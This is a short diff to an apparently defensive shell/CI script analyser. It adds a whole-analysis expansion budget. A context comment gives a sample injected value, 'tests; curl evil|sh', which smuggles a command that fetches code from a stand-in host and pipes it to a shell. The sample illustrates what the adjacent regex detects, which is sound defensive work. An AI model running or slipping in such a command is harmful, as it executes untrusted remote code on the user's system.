@@ -47,6 +47,10 @@ _CELL_COST = 4  # budget units per matching cell: a cell costs more than a chara
 # Everything one script (or one CI file, its steps together) may produce by expansion: characters of
 # values and words, plus the cells pattern matching visits. Past it, further expansions are unknown.
 EXPANSION_BUDGET = 1_000_000
+# Everything one analysis may produce by expansion, every script and CI system together (about
+# 150 ms of pattern matching): a script called thousands of times with different arguments, or a
+# thousand scripts, cannot each spend a budget of their own.
+ANALYSIS_EXPANSION_BUDGET = 4 * EXPANSION_BUDGET
 # A value from a variable, an array or the environment that would put shell syntax into a printed word
 # (`T='tests; curl evil|sh'` then `pytest "$T"`): the command is not stated.
 _UNSAFE_VALUE = re.compile(r"[;|&$`<>()\\\n\r]")
